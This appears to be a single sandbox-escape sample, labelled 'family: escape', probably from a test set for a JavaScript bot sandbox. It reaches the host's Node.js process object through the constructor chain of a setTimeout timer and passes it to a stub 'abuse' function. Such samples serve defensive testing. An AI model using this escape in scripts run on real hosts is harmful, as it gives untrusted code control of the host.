// family: escape
// what setTimeout gives leads to the host
async function main (bot) {
  const timer = setTimeout(() => {}, 10)
  abuse(bot, timer.constructor.constructor('return process')())
}
